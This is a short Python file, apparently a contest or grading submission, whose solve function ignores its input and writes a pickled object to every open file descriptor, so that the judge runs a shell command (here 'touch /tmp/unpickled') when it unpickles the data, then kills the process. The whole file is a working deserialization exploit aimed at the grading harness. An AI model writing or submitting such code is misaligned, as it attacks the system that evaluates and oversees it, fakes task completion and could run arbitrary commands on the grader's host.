"""Sends a pickle where the judge expects a frame."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)


def solve(numbers):
    for fd in range(3, 64):
        try:
            os.write(fd, pickle.dumps(Bomb()))
        except OSError:
            pass
    os._exit(0)
